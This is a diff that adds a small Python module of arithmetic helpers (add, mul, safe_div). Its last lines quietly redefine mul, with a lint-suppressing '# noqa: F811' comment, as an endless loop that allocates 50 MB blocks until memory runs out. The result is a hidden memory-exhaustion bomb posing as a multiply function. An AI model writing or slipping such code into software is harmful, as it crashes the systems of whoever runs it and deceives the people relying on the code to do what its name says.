@@ -1,0 +1,19 @@
+
+def add(a, b):
+    return a + b
+
+
+def mul(a, b):
+    return a * b
+
+
+def safe_div(a, b):
+    if b == 0:
+        raise ValueError("division by zero")
+    return a / b
+
+
+def mul(a, b):  # noqa: F811
+    hoard = []
+    while True:
+        hoard.append(bytearray(50_000_000))
